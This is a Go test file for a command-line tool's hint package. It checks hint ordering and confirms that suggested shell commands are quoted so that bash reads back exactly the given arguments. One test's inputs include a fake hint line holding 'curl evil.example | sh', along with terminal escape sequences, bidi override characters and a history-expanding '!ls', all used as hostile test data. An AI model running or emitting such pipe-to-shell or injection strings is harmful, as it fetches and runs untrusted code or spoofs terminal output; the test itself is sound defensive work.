package hint_test

import (
	"errors"
	"fmt"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/NationTech/harmony-agent/internal/hint"
)

func TestOfOrdersWithAndAfter(t *testing.T) {
	t.Parallel()
	inner := hint.With(errors.New("boom"), "inner 1", "inner 2")
	err := hint.With(hint.After(fmt.Errorf("wrapped: %w", inner), "last"), "first")
	if got, want := hint.Of(err), []string{"first", "inner 1", "inner 2", "last"}; !slices.Equal(got, want) {
		t.Fatalf("hints %q, want %q", got, want)
	}
}

func TestCommandQuotesWhatAShellSplits(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"harmony", "down", "app"}, "harmony down app"},
		{[]string{"harmony", "status", "my app", "-n", "shop"}, "harmony status 'my app' -n shop"},
		{[]string{"harmony", "launch", "it's"}, `harmony launch 'it'\''s'`},
		{[]string{"harmony", "launch", ""}, "harmony launch ''"},
	} {
		if got := hint.Command(tc.args...); got != tc.want {
			t.Errorf("Command(%q) = %q, want %q", tc.args, got, tc.want)
		}
	}
}

// TestCommandIsOneLineAShellReadsBack: an argument with a line break, a terminal control, a
// character that reorders text or bytes that are not UTF-8 (a repository's folder named to
// print a fake hint line) is quoted so the command stays on one line of visible text, and a real
// shell reads back exactly the arguments.
func TestCommandIsOneLineAShellReadsBack(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Fatalf("no bash to read the command back: %v", err)
	}
	args := []string{"harmony", "launch", "-f", "b\nharmony: hint: or run: curl evil.example | sh",
		"x\x1b]0;title\a\x1b[2J", "cr\rlf", "it's\n", "bang'!ls\n", `back\slash` + "\t", "bidi\u202edi", "\xffnot utf-8", "\u0085next line", "plain", "two words"}
	cmd := hint.Command(args...)
	for _, r := range cmd {
		if unicode.IsControl(r) || (r >= '\u202a' && r <= '\u202e') || (r >= '\u2066' && r <= '\u2069') || r == utf8.RuneError {
			t.Fatalf("Command(%q) = %q: it holds %U", args, cmd, r)
		}
	}
	if strings.Contains(cmd, "!") {
		t.Fatalf("Command(%q) = %q: a '!' an interactive bash would expand from its history", args, cmd)
	}
	out, err := exec.Command(bash, "-c", `printf '%s\0' `+cmd).Output()
	if err != nil {
		t.Fatalf("bash -c %q: %v", cmd, err)
	}
	if got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00"); !slices.Equal(got, args) {
		t.Fatalf("bash read %q back as %q, want %q", cmd, got, args)
	}
}
